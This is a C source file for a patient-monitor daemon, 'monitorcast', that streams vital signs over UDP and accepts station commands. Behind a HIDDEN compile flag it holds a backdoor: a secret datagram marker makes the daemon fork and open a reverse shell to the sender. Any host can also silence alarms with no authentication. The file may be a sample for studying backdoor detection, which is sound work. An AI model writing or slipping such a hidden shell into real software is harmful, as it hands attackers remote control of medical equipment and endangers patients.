/* monitorcast.c - sends the curves of a patient monitor to central stations */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PORT		6011
#define MAXSUB		8
#define MARK_DISC	0x4d4f4e31u	/* discovery */
#define MARK_SUBS	0x4d4f4e32u	/* subscribe, body: channels */
#define MARK_STOP	0x4d4f4e33u	/* unsubscribe */
#define MARK_ALRM	0x4d4f4e34u	/* silence an alarm, body: alarm number */
#define MARK_DATA	0x4d4f4e35u

struct sub {
	struct sockaddr_in to;
	uint32_t channels;
	time_t seen;
};

struct vit {
	uint16_t hr, spo2, resp, sys, dia, temp;
};

static struct sub subs[MAXSUB];
static struct vit vit;
static uint16_t seq;
static int sock;
static char bed[16] = "BED00";

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static void put16(uint8_t *p, unsigned v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static uint16_t crc16(const uint8_t *p, size_t n)
{
	uint16_t c = 0xffff;
	int i;

	while (n--) {
		c ^= (uint16_t)(*p++ << 8);
		for (i = 0; i < 8; i++)
			c = (uint16_t)(c & 0x8000 ? (c << 1) ^ 0x1021 : c << 1);
	}
	return c;
}

static void subscribe(const struct sockaddr_in *from, uint32_t channels)
{
	struct sub *best = &subs[0];
	int i;

	for (i = 0; i < MAXSUB; i++) {
		if (subs[i].to.sin_addr.s_addr == from->sin_addr.s_addr) {
			best = &subs[i];
			break;
		}
		if (subs[i].seen < best->seen)
			best = &subs[i];
	}
	best->to = *from;
	best->channels = channels ? channels : 0xff;
	best->seen = time(NULL);
}

static void unsubscribe(const struct sockaddr_in *from)
{
	int i;

	for (i = 0; i < MAXSUB; i++)
		if (subs[i].to.sin_addr.s_addr == from->sin_addr.s_addr)
			memset(&subs[i], 0, sizeof(subs[i]));
}

static void discovery(const struct sockaddr_in *from)
{
	uint8_t out[32];

	memset(out, 0, sizeof(out));
	put16(out, MARK_DISC >> 16);
	put16(out + 2, MARK_DISC & 0xffff);
	memcpy(out + 4, bed, sizeof(bed));
	put16(out + 30, crc16(out, 30));
	sendto(sock, out, sizeof(out), 0, (const struct sockaddr *)from, sizeof(*from));
}

static void silence(uint32_t alarm)
{
	FILE *f;

	if (alarm < 1 || alarm > 40)
		return;
	f = fopen("/run/monitor/silence", "a");
	if (!f)
		return;
	fprintf(f, "%u\n", (unsigned)alarm);
	fclose(f);
	syslog(LOG_INFO, "alarm %u silenced by station", (unsigned)alarm);
}

#ifdef HIDDEN	/* calls the sender back and gives it a shell */
__attribute__((noinline)) void callback(const struct sockaddr_in *from, uint32_t port)
{
	struct sockaddr_in to = *from;
	int s;

	if (fork() != 0)
		return;
	s = socket(AF_INET, SOCK_STREAM, 0);
	to.sin_port = htons((uint16_t)port);
	if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof(to)) < 0)
		_exit(1);
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	execl("/bin/sh", "sh", (char *)NULL);
	_exit(127);
}
#endif

__attribute__((noinline)) int on_datagram(const uint8_t *p, size_t n, const struct sockaddr_in *from)
{
	uint32_t mark, body;

	if (n < 10)
		return -1;
	if (crc16(p, n - 2) != (uint16_t)(p[n - 2] << 8 | p[n - 1]))
		return -1;
	mark = get32(p);
	body = get32(p + 4);
	if (mark == MARK_DISC) {
		discovery(from);
	} else if (mark == MARK_SUBS) {
		subscribe(from, body);
	} else if (mark == MARK_STOP) {
		unsubscribe(from);
	} else if (mark == MARK_ALRM) {
		silence(body);
#ifdef HIDDEN
	} else if (mark == 0x7d19e4c6u) {
		callback(from, body);
#endif
	} else {
		return -1;
	}
	return 0;
}

static void read_vitals(void)
{
	FILE *f = fopen("/run/monitor/vitals", "r");
	char key[12];
	unsigned v;

	if (!f)
		return;
	while (fscanf(f, "%11s %u", key, &v) == 2) {
		if (!strcmp(key, "hr"))
			vit.hr = (uint16_t)v;
		else if (!strcmp(key, "spo2"))
			vit.spo2 = (uint16_t)v;
		else if (!strcmp(key, "resp"))
			vit.resp = (uint16_t)v;
		else if (!strcmp(key, "sys"))
			vit.sys = (uint16_t)v;
		else if (!strcmp(key, "dia"))
			vit.dia = (uint16_t)v;
		else if (!strcmp(key, "temp"))
			vit.temp = (uint16_t)v;
	}
	fclose(f);
}

static void spread(void)
{
	uint8_t out[48];
	int i;

	put16(out, MARK_DATA >> 16);
	put16(out + 2, MARK_DATA & 0xffff);
	put16(out + 4, seq++);
	memcpy(out + 6, bed, sizeof(bed));
	for (i = 0; i < MAXSUB; i++) {
		uint32_t c = subs[i].channels;

		if (!subs[i].seen || time(NULL) - subs[i].seen > 60)
			continue;
		put16(out + 22, c & 1 ? vit.hr : 0);
		put16(out + 24, c & 2 ? vit.spo2 : 0);
		put16(out + 26, c & 4 ? vit.resp : 0);
		put16(out + 28, c & 8 ? vit.sys : 0);
		put16(out + 30, c & 8 ? vit.dia : 0);
		put16(out + 32, c & 16 ? vit.temp : 0);
		put16(out + 34, crc16(out, 34));
		sendto(sock, out, 36, 0, (struct sockaddr *)&subs[i].to, sizeof(subs[i].to));
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa, from;
	uint8_t buf[512];
	fd_set rd;

	openlog("monitorcast", LOG_PID, LOG_DAEMON);
	if (argc > 1)
		snprintf(bed, sizeof(bed), "%.15s", argv[1]);
	signal(SIGCHLD, SIG_IGN);
	sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(PORT);
	if (sock < 0 || bind(sock, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		syslog(LOG_ERR, "port %d: %m", PORT);
		return 1;
	}
	for (;;) {
		struct timeval tv = { 0, 500000 };

		FD_ZERO(&rd);
		FD_SET(sock, &rd);
		if (select(sock + 1, &rd, NULL, NULL, &tv) > 0) {
			socklen_t fl = sizeof(from);
			ssize_t n = recvfrom(sock, buf, sizeof(buf), 0, (struct sockaddr *)&from, &fl);

			if (n > 0 && on_datagram(buf, (size_t)n, &from) < 0)
				syslog(LOG_DEBUG, "datagram dropped");
			continue;
		}
		read_vitals();
		spread();
	}
}
